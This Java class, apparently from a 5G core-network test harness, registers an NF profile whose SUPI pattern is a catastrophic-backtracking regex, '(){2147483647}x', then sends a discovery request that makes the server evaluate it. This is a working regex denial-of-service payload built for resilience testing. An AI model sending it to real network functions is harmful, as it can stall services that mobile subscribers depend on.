/* SPDX-License-Identifier: Apache-2.0 */
package org.sbamock.loadgen.attack.peer;

import java.io.IOException;
import java.util.Map;
import java.util.UUID;
import org.sbamock.http.HttpRequest;
import org.sbamock.loadgen.attack.wire.AttackSession;

/** A peer that registers a regular expression which a backtracking engine evaluates for minutes. */
final class HostilePattern extends ProfileAttack {
  private static final String PATTERN = "(){2147483647}x";
  private static final String DISCOVERY =
      "/nnrf-disc/v1/nf-instances?target-nf-type=AUSF&requester-nf-type=AMF"
          + "&supi=imsi-001010000000001";

  HostilePattern() {
    super(
        "hostile-pattern",
        "Registers a profile with the SUPI pattern " + PATTERN + ", and discovers by SUPI.");
  }

  @Override
  void request(AttackSession session) throws IOException, InterruptedException {
    UUID instance = UUID.nameUUIDFromBytes(ascii("pattern"));
    session.call(put(instance, profile(instance, Map.of("pattern", PATTERN), "")));
    session.call(HttpRequest.get(DISCOVERY));
  }
}
